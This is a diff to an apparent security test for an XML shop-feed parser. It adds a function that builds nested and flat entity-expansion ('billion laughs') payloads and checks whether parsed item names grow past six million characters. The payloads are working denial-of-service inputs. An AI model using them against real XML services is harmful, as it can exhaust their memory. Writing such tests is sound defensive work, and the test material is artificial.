@@ -21,16 +21,25 @@ def works(code, vary):
     assert is_refused(code, external), "A feed that includes a file should be refused with FeedRefused."
 
 
+# More than all texts of an honest feed come to.
+MAX_CHARACTERS = 6_000_000
+
+
 def exploit(code, vary):
+    """A small feed whose texts grow: many uses of one long entity, spread over items, and entities made of entities."""
     a, b, c = f"a{vary.word()}", f"b{vary.word()}", f"c{vary.word()}"
-    nested = f'<!ENTITY {a} "0123456789"><!ENTITY {b} "{f"&{a};" * 8}"><!ENTITY c "{f"&{b};" * 8}">'
-    for declaration in (nested, f'<!ENTITY c "{c * 300}">'):
-        attack = f'<!DOCTYPE catalog [{declaration}]><catalog><item number="1" price="9.90">{"&c;" * 800}</item></catalog>'
-        for body in (attack.encode(), attack.encode("utf-16")):
+    nested = f'<!ENTITY {a} "{c * 40}"><!ENTITY {b} "{f"&{a};" * 9}"><!ENTITY c "{f"&{b};" * 9}">'
+    for declaration in (f'<!ENTITY c "{"x" * 19_000}">', nested):
+        items = "".join(f'<item number="{number}" price="9.90">{"&c;" * 10}</item>' for number in range(1, 41))
+        attack = f"<!DOCTYPE catalog [{declaration}]><catalog>{items}</catalog>"
+        for encoding in ("utf-8", "utf-16"):
             try:
-                length = len(code.read_feed(body, "shop.example.com").items[0].name)
+                length = sum(len(item.name) for item in code.read_feed(attack.encode(encoding), "shop.example.com").items)
             except Exception:
                 continue  # Refused; the next form may be not.
-            if length > 100 * len(attack):
-                return {"sent": f"{attack[:200]}…", "got": f"{len(attack)} characters became {length}"}
+            if length > MAX_CHARACTERS:
+                return {
+                    "sent": f"a feed of {len(attack)} characters in {encoding}: {attack[:150]}…",
+                    "got": f"texts of {length} characters. A feed of 20 MB grows a thousand times as much, and a worker has 512 MB",
+                }
     return False
